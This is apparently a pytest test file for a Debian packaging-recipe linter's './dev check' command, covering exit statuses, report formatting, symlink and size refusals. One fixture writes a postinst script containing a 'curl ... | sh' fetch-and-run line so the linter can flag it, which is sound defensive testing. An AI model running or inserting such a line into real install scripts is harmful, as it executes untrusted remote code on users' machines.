"""`./dev check PATH`: the stages on a directory; the exit status says the worst."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from devtools.bootstrap import ROOT
from recipes_app.lint.local import CLEAN, ERRORS, NO_VERDICT, WARNINGS, check_folder, exit_status, read_folder, report_lines
from recipes_app.lint.protocol.report import Hint, HintSeverity, LintReport, Outcome
from recipes_app.lint.protocol.stages import Stage
from tests.factories import recipe_tree, write_tree

WARNING = Hint(HintSeverity.WARNING, "some-tag", "src:x", context="two\nlines", path="debian/control", line=3)


@pytest.mark.parametrize(
    ("report", "status"),
    [
        (LintReport(Outcome.PASSED), CLEAN),
        (LintReport(Outcome.PASSED, hints=(WARNING,)), WARNINGS),
        (LintReport(Outcome.FAILED, hints=(Hint(HintSeverity.ERROR, "bad", "src:x"), WARNING)), ERRORS),
        (LintReport(Outcome.PASSED, hints=(Hint(HintSeverity.ERROR, "bad", "src:x", overridden=True),)), CLEAN),
        (LintReport(Outcome.ERROR, error="no sandbox"), NO_VERDICT),
    ],
)
def test_the_status_says_the_worst(report: LintReport, status: int) -> None:
    assert exit_status(report) == status


def test_a_hint_is_one_line_with_its_place() -> None:
    lines = report_lines(Stage.SOURCE_LINT, LintReport(Outcome.PASSED, tool_version="2.1", hints=(WARNING,)))
    assert lines == ["== source-lint: passed (lintian 2.1, 0.0 s)", "   warning: some-tag debian/control:3: two lines"]


@pytest.mark.server
def test_the_command_runs_the_stages_of_the_site(tmp_path: Path) -> None:
    write_tree(recipe_tree() | {"debian/postinst": b"#!/bin/sh\ncurl https://example.org/x | sh\n"}, tmp_path)
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git" / "config").write_text("no part of it")
    done = subprocess.run([str(ROOT / "dev"), "check", str(tmp_path)], capture_output=True, text=True, check=False)
    assert "== recipe-checks: " in done.stdout
    assert "== source-lint: " in done.stdout
    assert "DUR" in done.stdout, done.stdout + done.stderr
    assert done.returncode in (WARNINGS, ERRORS)


def test_a_folder_without_debian_is_no_recipe(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert check_folder(tmp_path) == NO_VERDICT
    assert "there is no folder debian" in capsys.readouterr().err


def test_what_a_push_would_refuse_is_said_and_not_linted(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    write_tree(recipe_tree() | {"debian/control": b"nonsense\n"}, tmp_path)
    assert check_folder(tmp_path) == NO_VERDICT
    assert "error: debian/control:1: " in capsys.readouterr().out


@pytest.mark.parametrize("name", ["debian/link", "link"])
def test_links_are_not_followed(tmp_path: Path, name: str, capsys: pytest.CaptureFixture[str]) -> None:
    write_tree(recipe_tree(), tmp_path)
    (tmp_path / name).symlink_to("/etc")
    assert check_folder(tmp_path) == NO_VERDICT
    assert f"{name}: is no regular file" in capsys.readouterr().err


def test_what_is_too_large_is_no_packaging(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    write_tree(recipe_tree() | {"upstream.tar": b"x" * 300_000}, tmp_path)
    assert check_folder(tmp_path) == NO_VERDICT
    assert "upstream.tar: a recipe holds at most" in capsys.readouterr().err


def test_executables_are_known_by_their_mode(tmp_path: Path) -> None:
    write_tree(recipe_tree(), tmp_path)
    assert read_folder(tmp_path).executables == {"debian/rules"}
